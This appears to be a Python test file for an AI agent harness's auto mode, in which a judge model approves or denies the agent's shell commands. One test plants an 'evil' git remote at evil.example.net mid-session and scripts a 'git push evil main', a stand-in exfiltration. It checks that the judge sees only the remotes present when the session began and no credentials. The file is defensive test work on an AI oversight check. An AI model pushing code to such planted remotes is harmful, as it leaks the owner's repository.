"""Auto mode in a whole session: what it goes by as that began, and what changes meanwhile."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from gatewright.agent.record.events import ModeChanged
from tests.fakes.scripted_provider import read_script
from tests.permissions.composed import WITHIN, Desk, desk

MODEL = "anthropic/claude-sonnet-5-5"
AUTO: dict[str, Any] = {"unmeasured": True, "model": MODEL, "stages": "thinking"}
OWN = {"autoMode": AUTO}
YES = 'say: {"why": "Asked for.", "label": "routine", "verdict": "allow"}'
NO = YES.replace("allow", "deny")
CONFIG = '[remote "origin"]\n\turl = https://me:word@git.example.org/app.git\n'


def verdicts(made: Desk, *said: str) -> None:
    made.server.tasks["<account>"] = list(read_script("\n---\n".join(said)))


def judged(made: Desk) -> list[dict[str, Any]]:
    return [each for each in made.server.bodies if "<account>" in json.dumps(each["messages"][:1])]


def own(folder: Path, **values: Any) -> None:
    path = folder / "home" / ".gatewright" / "settings.json"
    path.write_text(json.dumps({"smallModel": "demo", **values}), encoding="utf-8")


def call(number: int, command: str) -> str:
    return f"call[c{number}]: Bash {json.dumps({'command': command})}"


async def test_remotes_are_those_of_before_anything_ran(tmp_path: Path) -> None:
    git = tmp_path / "project" / ".git"
    git.mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (git / "config").write_text(CONFIG, encoding="utf-8")
    script = [call(1, "git push evil main"), "say: Done."]
    async with desk(tmp_path, script, mode="auto", own=OWN) as made:
        evil = '[remote "evil"]\n\turl = https://evil.example.net/app.git\n'
        (git / "config").write_text(CONFIG + evil, encoding="utf-8")
        verdicts(made, NO)
        made.session.submit("Push it.")
        await made.ended()
        (body,) = judged(made)
    told = json.dumps(body["messages"])
    assert "remotes_when_the_session_began" in told
    assert "https://git.example.org/app.git" in told
    assert "evil.example.net" not in told
    assert "word@" not in told


async def test_settings_that_take_the_mode_away_end_it_at_once(tmp_path: Path) -> None:
    script = [call(1, "make a"), call(2, "make b"), "say: Done."]
    async with desk(tmp_path, script, mode="auto", own=OWN) as made:
        verdicts(made, YES, YES)
        own(tmp_path, autoMode=AUTO, permissions={"disableAutoMode": "disable"})
        made.session.submit("Go.")
        changed = await made.seen.until(ModeChanged, within=WITHIN)
        assert (changed.mode, changed.by) == ("default", "settings")
        asked = await made.asked()
        assert made.session.mode == "default"
        made.answer(asked, "once")
        made.answer(await made.asked(2), "once")
        await made.ended()
        assert judged(made) == []


async def test_an_entry_counts_from_the_next_call_on(tmp_path: Path) -> None:
    """Also for a call that was refused before: what the person writes down turns a no around."""
    deploy = "make deploy"
    script = [call(1, deploy), "say: No.", call(2, deploy), "say: Done."]
    async with desk(tmp_path, script, mode="auto", own=OWN) as made:
        verdicts(made, NO, YES)
        made.session.submit("Go.")
        await made.ended()
        entry = "Deploying by make deploy."
        own(tmp_path, autoMode={**AUTO, "allow": ["$defaults", entry]})
        assert (await made.decided("c1")).behavior == "deny"
        made.session.tell("Something happened.")
        made.server.release("x")
        await made.ended(2)
        assert (await made.decided("c2")).behavior == "allow"
        first, second = judged(made)
    assert entry not in json.dumps(first["system"])
    assert entry in json.dumps(second["system"])


async def test_nothing_is_kept_before_a_judge_is_needed_but_words(tmp_path: Path) -> None:
    script = [*(f'call[r{n}]: Read {{"file_path": "a{n}"}}' for n in range(5)), "say: Read."]
    script += [call(1, "make it"), "say: Done."]
    async with desk(tmp_path, script, own=OWN) as made:
        made.session.submit("Only look.")
        await made.ended()
        made.session.set_mode("auto")
        verdicts(made, YES)
        made.session.submit("Now make it.")
        await made.ended(2)
        (body,) = judged(made)
    told = json.dumps(body["messages"])
    assert told.index("Only look.") < told.index("Now make it.") < told.index("facts")
